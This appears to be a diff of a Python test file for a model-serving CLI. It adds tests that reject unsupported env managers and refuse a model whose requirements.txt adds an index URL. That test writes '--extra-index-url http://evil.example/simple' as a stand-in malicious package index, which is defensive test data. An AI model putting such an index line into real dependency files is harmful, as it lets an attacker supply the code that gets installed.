@@ -1,5 +1,6 @@
 """`tracekit models predict` (through click's CliRunner) and `tracekit.models.predict`: a file scored with a
-logged scikit-learn model, by id and by registry alias; bad input and unsupported env managers refused."""
+logged scikit-learn model, by id and by registry alias; bad input and unsupported env managers refused (the
+virtualenv one is tested in test_virtualenv_env.py)."""
 
 from __future__ import annotations
 
@@ -51,13 +52,15 @@ def test_predict_refuses_input_violating_the_signature_naming_the_column(tmp_pat
 
 
 @pytest.mark.parametrize("command", ["predict", "serve"])
-def test_only_the_local_env_manager_is_supported(tmp_path, logged, command):
+def test_an_env_manager_other_than_local_or_virtualenv_is_refused(tmp_path, logged, command):
     info, rows, _ = logged
     (tmp_path / "in.csv").write_text(rows.to_csv(index=False))
     extra = ["-i", str(tmp_path / "in.csv"), "-t", "csv"] if command == "predict" else []
-    result = CliRunner().invoke(main, ["models", command, "-m", info.model_uri, "--env-manager", "virtualenv",
-                                       *extra])
-    assert result.exit_code == 1 and "only 'local' is supported" in result.output
+    result = CliRunner().invoke(main, ["models", command, "-m", info.model_uri, "--env-manager", "conda", *extra])
+    assert result.exit_code == 2 and "'conda' is not one of 'local', 'virtualenv'" in result.output
+    with pytest.raises(TracekitException, match="'conda' is not supported: use 'local'"):
+        tracekit.models.predict(info.model_uri, input_path=str(tmp_path / "in.csv"), content_type="csv",
+                                env_manager="conda")
 
 
 def test_models_predict_function_takes_a_body_dict_and_returns_the_answer(tmp_path, logged):
@@ -103,6 +106,18 @@ def test_generate_dockerfile_takes_only_a_version_from_python_env(tmp_path, logg
     assert result.exit_code == 0, result.output
     dockerfile = (tmp_path / "build" / "Dockerfile").read_text()
     assert "evil" not in dockerfile and "curl" not in dockerfile
+
+
+def test_generate_dockerfile_refuses_a_model_whose_requirements_choose_an_index(tmp_path, logged):
+    info, _, _ = logged
+    model_dir = tmp_path / "model"
+    tracekit.sklearn.save_model(tracekit.sklearn.load_model(info.model_uri), str(model_dir))
+    with open(model_dir / "requirements.txt", "a") as requirements:
+        requirements.write("--extra-index-url http://evil.example/simple\n")
+    result = CliRunner().invoke(main, ["models", "generate-dockerfile", "-m", str(model_dir),
+                                       "-d", str(tmp_path / "build")])
+    assert result.exit_code == 1 and "is a pip option" in result.output
+    assert not (tmp_path / "build" / "Dockerfile").exists()
 
 
 def test_generate_dockerfile_refuses_a_directory_already_holding_a_model(tmp_path, logged):
